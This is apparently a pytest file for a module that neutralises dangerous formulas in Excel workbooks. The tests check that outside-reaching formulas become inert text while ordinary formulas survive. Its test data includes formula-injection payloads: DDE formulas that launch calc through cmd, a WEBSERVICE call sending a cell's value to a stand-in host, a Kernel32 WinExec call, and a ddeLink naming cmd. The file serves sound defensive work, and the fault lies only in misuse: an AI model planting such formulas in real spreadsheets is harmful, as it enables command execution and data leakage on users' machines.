"""A workbook given back starts nothing; formulas that only compute stay as they are."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from emonev.reports.marked.book import mark_xlsx
from emonev.reports.marked.programs import without_programs, without_programs_linked

REACHING = (
    "=cmd|'/c calc'!A0",
    "=DDE|x!1+0",
    '=WEBSERVICE("http://contoh.invalid/"&A1)',
    '=1+CALL("Kernel32","WinExec","JCJ","calc",0)',
)
COMPUTING = ("=A1+B1", '=IF(A1>0,"a|b",B1)', "=SUM(A1:A3)", "=-3", "=VLOOKUP(A1,Sheet2!A:B,2,0)")


def book(folder: Path, formulas: tuple[str, ...]) -> Path:
    path = folder / "buku.xlsx"
    with xlsxwriter.Workbook(str(path)) as made:
        page = made.add_worksheet("Data")
        bold = made.add_format({"bold": True})
        for row, formula in enumerate(formulas):
            page.write_formula(row, 0, formula, bold, 7)
            page.write_number(row, 1, -2.5)
        made.add_worksheet("Sheet2")
    return path


def test_formulas_that_reach_outside_are_texts_and_say_what_they_were(tmp_path: Path) -> None:
    out = tmp_path / "hasil.xlsx"
    mark_xlsx(book(tmp_path, REACHING), out, {}, [], "buku.xlsx")
    page = openpyxl.load_workbook(out)["Data"]
    assert [page.cell(row, 1).value for row in range(1, 5)] == list(REACHING)
    assert {page.cell(row, 1).data_type for row in range(1, 5)} == {"s"}
    assert all(page.cell(row, 1).font.b for row in range(1, 5)), "the look stays"
    assert page["B1"].value == -2.5


def test_formulas_that_compute_stay_byte_for_byte(tmp_path: Path) -> None:
    source, out = book(tmp_path, COMPUTING), tmp_path / "hasil.xlsx"
    mark_xlsx(source, out, {}, [], "buku.xlsx")
    page = openpyxl.load_workbook(out)["Data"]
    assert [page.cell(row, 1).value for row in range(1, 6)] == list(COMPUTING)
    assert {page.cell(row, 1).data_type for row in range(1, 6)} == {"f"}


@pytest.mark.parametrize("prefix", [b"", b"x:"])
def test_a_prefix_of_the_names_makes_no_difference(prefix: bytes) -> None:
    def tag(name: bytes, inside: bytes, more: bytes = b"") -> bytes:
        return b"<" + prefix + name + more + b">" + inside + b"</" + prefix + name + b">"

    cell = tag(b"c", tag(b"f", b"cmd|'/c calc'!A0") + tag(b"v", b"0"), b' r="A1" s="3" t="n"')
    made = without_programs(cell)
    assert b"<" + prefix + b"f" not in made and b'r="A1" s="3" t="inlineStr"' in made
    assert b"=cmd|" in made


def test_a_link_names_no_program_any_more() -> None:
    part = b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink>'
    made = without_programs_linked(part)
    assert b"cmd" not in made and b"calc" not in made and made.startswith(b"<ddeLink ")
